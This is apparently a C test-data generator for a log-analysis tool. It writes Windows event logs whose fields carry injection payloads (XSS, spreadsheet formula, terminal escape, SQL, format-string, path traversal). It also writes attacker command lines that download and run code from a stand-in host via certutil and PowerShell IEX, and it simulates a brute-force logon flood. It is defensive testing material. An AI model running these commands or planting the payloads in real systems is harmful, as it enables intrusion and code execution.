/* Logs that an attacker would write, for the tests of the whole program:
 *
 *     made_logs hostile DIR            every field of many kinds of records holds texts that are meant for whoever shows them
 *     made_logs plain DIR              the same records with harmless texts
 *     made_logs flood FILE MEGABYTES   failed logons under random account names, workstations and sources, and in them one
 *                                      client that guesses the password of Administrator
 *     made_logs text FILE              how many bytes of text a digest holds
 *     made_logs unpack FILE            that text, on standard output
 *
 * Each text begins or ends with XQZ and its number, so that a test can tell whether it arrived. */
#include "range/evtx_write.h"
#include "range/rng.h"

#include <stdio.h>
#include <stdlib.h>
#include <zstd.h>

static const moment noon = 132336720000000000ull;      /* 2020-05-11T12:00:00Z */

static void require(bool kept, const char *what)
{
    if (!kept) {
        perror(what);
        exit(1);
    }
}

/* ---- hostile texts ---- */

static const char *const hostile[] = {
    "<script>alert('XQZ0')</script>",
    "\"><img src=x onerror=alert('XQZ1')>",
    "' onmouseover='alert(1)' XQZ2",
    "</script><script>alert(1)//XQZ3",
    "<!--<script>XQZ4",
    "]]><x>XQZ5",
    "--><svg/onload=alert(1)>XQZ6",
    "javascript:alert(1)//XQZ7",
    "</td></tr></table></body></html>XQZ8",
    "&lt;script&gt;XQZ9&#60;b&#62;",
    "\",\"injected\":{\"x\":[\"XQZ10",
    "\\\",\\u0000\\uD800 XQZ11\\",
    "=cmd|'/C calc'!A0 XQZ12",
    "+1+cmd|'/C calc'!A0 XQZ13",
    "-1+cmd|'/C calc'!A0 XQZ14",
    "@SUM(1+1)*cmd|'/C calc'!A0 XQZ15",
    "\t=1+1 XQZ16",
    "\r\n=1+1,\"XQZ17\"\r\n=2",
    "\x1b[2J\x1b[31mXQZ18\x1b[0m",
    "\x1b]0;owned\x07XQZ19\x1b]52;c;cm0gLXJm\x1b\\",
    ("\xc2\x9b" "31mXQZ20\xc2\x9d" "0;owned\xc2\x9c"),
    "safe\b\b\b\bXQZ21\x7f\r\x0b\x0c",
    ("XQZ22\xe2\x80\xae" "cod.exe\xe2\x80\xac"),
    "\xe2\x81\xa6XQZ23\xe2\x81\xa9\xe2\x80\x8b\xef\xbb\xbf\xe2\x80\xa8\xe2\x80\xa9",
    "\xf3\xa0\x81\x81XQZ24\xf3\xa0\x80\xa0",
    "%s%s%n%1000000000d XQZ25",
    "{account}{0}{{host}}${x}#{y} XQZ26",
    "../../../../XQZ27/C:\\..\\..\\x",
    "', 1); drop table finding; -- XQZ28",
    "[[a]](http://203.0.113.1/XQZ29) <a href=//203.0.113.1>x</a>",
};
enum { TEXTS = sizeof hostile / sizeof *hostile };

static bool harmless;
static unsigned turn;

static const char *text(unsigned i)
{
    static char plain[TEXTS][16];
    i %= TEXTS;
    if (!harmless)
        return hostile[i];
    snprintf(plain[i], sizeof *plain, "XQZ%u", i);
    return plain[i];
}

static const char *next(void)
{
    return text(turn++);
}

/* A text with the words that make a detector look. */
static const char *with(arena *mem, const char *before, const char *after)
{
    return arena_printf(mem, "%s%s%s", before, next(), after);
}

static void put(evtx_writer *w, evtx_out e, moment t)
{
    static const char *const computers[] = { "DB1", "<b onclick=alert(1)>XQZ30</b>", "\x1b[31mXQZ31\xe2\x80\xae" };
    static const char *const plain[] = { "DB1", "XQZ30", "XQZ31" };
    e.computer = (harmless ? plain : computers)[turn / TEXTS % 3];
    e.time = t;
    evtx_put(w, &e);
}

static void put_audit(evtx_writer *w, uint32_t id, moment t, const evtx_field *fields, size_t count)
{
    put(w, (evtx_out){ .provider = EVTX_AUDITING, .guid = EVTX_AUDITING_GUID, .channel = "Security", .id = id, .keywords = 0x8020000000000000, .pid = 4, .tid = 8,
                       .fields = fields, .field_count = count }, t);
}
#define AUDIT(ID, ...) put_audit(w, ID, t, (evtx_field[]){ __VA_ARGS__ }, sizeof (evtx_field[]){ __VA_ARGS__ } / sizeof(evtx_field))

static void put_security(evtx_writer *w, arena *mem, moment t)
{
    const char *user = next(), *station = next();
    for (int i = 0; i < 40; i++) {
        t += MOMENT_SECOND;
        AUDIT(4625, evtx_sid("SubjectUserSid", "S-1-0-0"), evtx_str("TargetUserName", user), evtx_str("TargetDomainName", text(turn)), evtx_hex32("Status", 0xc000006d),
              evtx_hex32("SubStatus", 0xc000006a), evtx_u32("LogonType", 10), evtx_str("LogonProcessName", text(turn + 1)), evtx_str("WorkstationName", station),
              evtx_str("ProcessName", text(turn + 2)), evtx_str("IpAddress", i % 2 ? "203.0.113.9" : text(turn + 3)));
    }
    AUDIT(4624, evtx_sid("TargetUserSid", "S-1-5-21-1-2-3-500"), evtx_str("TargetUserName", user), evtx_str("TargetDomainName", text(turn)), evtx_hex64("TargetLogonId", 0x4f2a1),
          evtx_u32("LogonType", 10), evtx_str("WorkstationName", station), evtx_str("IpAddress", "203.0.113.9"), evtx_str("AuthenticationPackageName", next()));
    AUDIT(4720, evtx_str("TargetUserName", next()), evtx_str("TargetDomainName", next()), evtx_sid("TargetSid", "S-1-5-21-1-2-3-1005"), evtx_str("SubjectUserName", user),
          evtx_hex64("SubjectLogonId", 0x4f2a1), evtx_str("DisplayName", next()));
    AUDIT(4732, evtx_str("MemberName", next()), evtx_sid("MemberSid", "S-1-5-21-1-2-3-1005"), evtx_str("TargetUserName", next()), evtx_sid("TargetSid", "S-1-5-32-544"),
          evtx_str("SubjectUserName", user), evtx_hex64("SubjectLogonId", 0x4f2a1));
    AUDIT(4688, evtx_str("SubjectUserName", user), evtx_hex64("SubjectLogonId", 0x4f2a1), evtx_hex64("NewProcessId", 0x1f4 + turn % 7), evtx_str("NewProcessName", with(mem, "C:\\Windows\\Temp\\", "\\svchost.exe")),
          evtx_hex64("ProcessId", 0x2a4), evtx_str("CommandLine", with(mem, "cmd.exe /c powershell -nop -w hidden ", " & certutil -urlcache -f http://203.0.113.9/a.exe")),
          evtx_str("ParentProcessName", with(mem, "C:\\", "\\cmd.exe")));
    AUDIT(4698, evtx_str("SubjectUserName", user), evtx_str("TaskName", with(mem, "\\", "")),
          evtx_str("TaskContent", with(mem, "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc ", "</Arguments></Exec></Actions></Task>")));
    AUDIT(4697, evtx_str("SubjectUserName", user), evtx_str("ServiceName", next()), evtx_str("ServiceFileName", with(mem, "%COMSPEC% /c ", "")), evtx_str("ServiceType", "0x10"));
    AUDIT(4648, evtx_str("SubjectUserName", user), evtx_str("TargetUserName", next()), evtx_str("TargetServerName", next()), evtx_str("TargetInfo", next()), evtx_str("ProcessName", next()));
    AUDIT(5145, evtx_str("SubjectUserName", user), evtx_str("IpAddress", "203.0.113.9"), evtx_str("ShareName", "\\\\*\\ADMIN$"), evtx_str("RelativeTargetName", with(mem, "", ".exe")), evtx_hex32("AccessMask", 0x2));
    put(w, (evtx_out){ .kind = EVTX_USERDATA, .provider = "Microsoft-Windows-Eventlog", .guid = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}", .channel = "Security", .id = 1102, .pid = 1, .tid = 2,
                       .element = "LogFileCleared", .xmlns = "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                       .fields = EVTX_FIELDS(evtx_sid("SubjectUserSid", "S-1-5-21-1-2-3-500"), evtx_str("SubjectUserName", next()), evtx_str("SubjectDomainName", next())) }, t);
}

static void put_system(evtx_writer *w, arena *mem, moment t)
{
    put(w, (evtx_out){ .provider = "Service Control Manager", .guid = "{555908d1-a6d7-4695-8e1e-26931d2012f4}", .source = "Service Control Manager", .channel = "System", .id = 7045,
                       .qualifiers = 16384, .pid = 1, .tid = 2, .user = "S-1-5-18",
                       .fields = EVTX_FIELDS(evtx_str("ServiceName", next()), evtx_str("ImagePath", with(mem, "%SystemRoot%\\", "\\psexesvc.exe")), evtx_str("ServiceType", "user mode service"),
                                             evtx_str("StartType", next()), evtx_str("AccountName", next())) }, t);
    put(w, (evtx_out){ .kind = EVTX_CLASSIC, .provider = "EventLog", .channel = "System", .id = 6008, .qualifiers = 32768,
                       .fields = EVTX_FIELDS(evtx_str(NULL, next()), evtx_str(NULL, next()), evtx_str(NULL, "")) }, t);
    put(w, (evtx_out){ .kind = EVTX_CLASSIC, .provider = "EventLog", .channel = "System", .id = 6011, .qualifiers = 32768,
                       .fields = EVTX_FIELDS(evtx_str(NULL, next()), evtx_str(NULL, next())) }, t);
    put(w, (evtx_out){ .provider = "Microsoft-Windows-WER-SystemErrorReporting", .source = "BugCheck", .channel = "System", .id = 1001,
                       .fields = EVTX_FIELDS(evtx_str("param1", with(mem, "0x00000050 (0x1, 0x2, 0x3, 0x4)", "")), evtx_str("param2", next()), evtx_str("param3", next())) }, t);
    put(w, (evtx_out){ .kind = EVTX_CLASSIC, .provider = "User32", .channel = "System", .id = 1074,
                       .fields = EVTX_FIELDS(evtx_str(NULL, next()), evtx_str(NULL, next()), evtx_str(NULL, next()), evtx_str(NULL, "0x80020010"), evtx_str(NULL, next()), evtx_str(NULL, next()), evtx_str(NULL, next())) }, t);
}

static void put_others(evtx_writer *w, arena *mem, moment t)
{
    static const char sysmon[] = "Microsoft-Windows-Sysmon", sysmon_channel[] = "Microsoft-Windows-Sysmon/Operational";
    put(w, (evtx_out){ .provider = sysmon, .channel = sysmon_channel, .id = 1, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_str("RuleName", next()), evtx_u32("ProcessId", 512), evtx_str("Image", with(mem, "C:\\Users\\Public\\", "\\lsass.exe")), evtx_str("CommandLine", with(mem, "mshta ", "")),
                                             evtx_str("User", next()), evtx_str("ParentImage", with(mem, "C:\\", "\\winword.exe")), evtx_str("ParentCommandLine", next()), evtx_str("Hashes", next())) }, t);
    put(w, (evtx_out){ .provider = sysmon, .channel = sysmon_channel, .id = 3, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_str("Image", next()), evtx_str("User", next()), evtx_str("Protocol", "tcp"), evtx_bool("Initiated", true), evtx_str("SourceIp", "10.0.0.1"),
                                             evtx_str("DestinationIp", "198.51.100.7"), evtx_str("DestinationHostname", with(mem, "pool.minexmr.com", "")), evtx_u16("DestinationPort", 3333)) }, t);
    put(w, (evtx_out){ .provider = sysmon, .channel = sysmon_channel, .id = 13, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_str("EventType", "SetValue"), evtx_str("Image", next()), evtx_str("TargetObject", with(mem, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\", "")), evtx_str("Details", next())) }, t);
    put(w, (evtx_out){ .provider = "Microsoft-Windows-Windows Defender", .channel = "Microsoft-Windows-Windows Defender/Operational", .id = 1116, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_str("Product Name", next()), evtx_str("Threat Name", next()), evtx_str("Severity Name", next()), evtx_str("Process Name", next()), evtx_str("Path", next()),
                                             evtx_str("Detection User", next()), evtx_str("Action Name", next())) }, t);
    put(w, (evtx_out){ .provider = "Microsoft-Windows-PowerShell", .channel = "Microsoft-Windows-PowerShell/Operational", .id = 4104, .level = 3, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_u32("MessageNumber", 1), evtx_u32("MessageTotal", 1), evtx_str("ScriptBlockText", with(mem, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/", "')")),
                                             evtx_guid("ScriptBlockId", "{00112233-4455-6677-8899-AABBCCDDEEFF}"), evtx_str("Path", next())) }, t);
    put(w, (evtx_out){ .provider = "Microsoft-Windows-TaskScheduler", .channel = "Microsoft-Windows-TaskScheduler/Operational", .id = 106, .pid = 1, .tid = 2,
                       .fields = EVTX_FIELDS(evtx_str("TaskName", with(mem, "\\", "")), evtx_str("UserContext", next())) }, t);
    /* What names things, not only what they hold. */
    put(w, (evtx_out){ .provider = text(turn), .channel = text(turn + 1), .id = 1, .pid = 1, .tid = 2, .element = harmless ? "Name" : "a b='c'><script>x",
                       .fields = EVTX_FIELDS(evtx_str(text(turn + 2), next())) }, t);
}

static void write_logs(const char *folder)
{
    static void (*const kinds[])(evtx_writer *, arena *, moment) = { put_security, put_system, put_others };
    static const char *const names[] = { "Security", "System", "Other" };
    for (size_t k = 0; k < 3; k++) {
        arena mem;
        arena_init(&mem, 0);
        evtx_writer *w = evtx_writer_open(&mem, arena_printf(&mem, "%s/%s.evtx", folder, names[k]), NULL);
        turn = (unsigned)k;
        for (unsigned round = 0; round < 3 * TEXTS; round++)
            kinds[k](w, &mem, noon + round * MOMENT_HOUR);
        status s = evtx_writer_close(w);
        require(status_is_ok(s), s.words);
        arena_done(&mem);
    }
}

/* ---- flood ---- */

static const char *random_name(rng *r, char *out, size_t letters)
{
    for (size_t i = 0; i < letters; i++)
        out[i] = (char)('a' + rng_below(r, 26));
    out[letters] = '\0';
    return out;
}

static void put_logon(evtx_writer *w, bool failed, moment t, const char *user, const char *station, const char *address)
{
    evtx_put(w, &(evtx_out){
        .provider = EVTX_AUDITING, .guid = EVTX_AUDITING_GUID, .channel = "Security", .computer = "DB1", .id = failed ? 4625 : 4624, .task = 12544,
        .keywords = failed ? 0x8010000000000000 : 0x8020000000000000, .time = t, .pid = 520, .tid = 1000,
        .fields = EVTX_FIELDS(evtx_sid("SubjectUserSid", "S-1-0-0"), evtx_str("SubjectUserName", "-"), evtx_hex64("SubjectLogonId", 0), evtx_sid("TargetUserSid", "S-1-0-0"),
                              evtx_str("TargetUserName", user), evtx_str("TargetDomainName", ""), evtx_hex32("Status", failed ? 0xc000006d : 0), evtx_hex32("SubStatus", failed ? 0xc0000064 : 0),
                              evtx_hex64("TargetLogonId", failed ? 0 : 0x4f2a1), evtx_u32("LogonType", 3), evtx_str("LogonProcessName", "NtLmSsp "),
                              evtx_str("AuthenticationPackageName", "NTLM"), evtx_str("WorkstationName", station), evtx_u32("KeyLength", 0), evtx_hex64("ProcessId", 0),
                              evtx_str("ProcessName", "-"), evtx_str("IpAddress", address), evtx_str("IpPort", "0")) });
}

static void write_flood(const char *path, uint64_t megabytes)
{
    enum { GUESSES = 600, EVERY = 20 };
    arena mem;
    arena_init(&mem, 0);
    evtx_writer *w = evtx_writer_open(&mem, path, NULL);
    rng r = rng_of(7, "flood", 0);
    uint64_t guesses = 0;
    for (uint64_t n = 0; guesses <= GUESSES || evtx_writer_bytes(w) < megabytes << 20; n++) {
        char user[32], station[32], address[32];
        uint64_t a = rng_next(&r);
        moment t = noon + n * MOMENT_SECOND / 50;
        snprintf(address, sizeof address, "%u.%u.%u.%u", 11 + (unsigned)(a & 63), (unsigned)(a >> 8 & 255), (unsigned)(a >> 16 & 255), 1 + (unsigned)(a >> 24 & 127));
        put_logon(w, true, t, random_name(&r, user, 12), random_name(&r, station, 10), address);
        if (n % EVERY == 0 && guesses <= GUESSES)
            put_logon(w, guesses++ < GUESSES, t, "Administrator", "kali", "203.0.113.9");
    }
    status s = evtx_writer_close(w);
    require(status_is_ok(s), s.words);
    arena_done(&mem);
}

/* ---- a digest's text ---- */

static void tell_text(const char *path, bool whole)
{
    uint8_t in[1 << 16], out[1 << 16];
    FILE *from = fopen(path, "rb");
    require(from != NULL, path);
    ZSTD_DCtx *zstd = ZSTD_createDCtx();
    unsigned long long total = 0;
    for (size_t n; (n = fread(in, 1, sizeof in, from)) > 0;) {
        ZSTD_inBuffer packed = { in, n, 0 };
        while (packed.pos < packed.size) {
            ZSTD_outBuffer plain = { out, sizeof out, 0 };
            require(!ZSTD_isError(ZSTD_decompressStream(zstd, &plain, &packed)), path);
            total += plain.pos;
            if (whole)
                fwrite(out, 1, plain.pos, stdout);
        }
    }
    ZSTD_freeDCtx(zstd);
    fclose(from);
    if (!whole)
        printf("%llu\n", total);
}

int main(int argc, char **argv)
{
    const char *what = argc > 2 ? argv[1] : "";
    harmless = strcmp(what, "plain") == 0;
    if (harmless || strcmp(what, "hostile") == 0)
        write_logs(argv[2]);
    else if (strcmp(what, "flood") == 0 && argc == 4)
        write_flood(argv[2], strtoull(argv[3], NULL, 10));
    else if (strcmp(what, "text") == 0 || strcmp(what, "unpack") == 0)
        tell_text(argv[2], *what == 'u');
    else
        return 2;
    return 0;
}
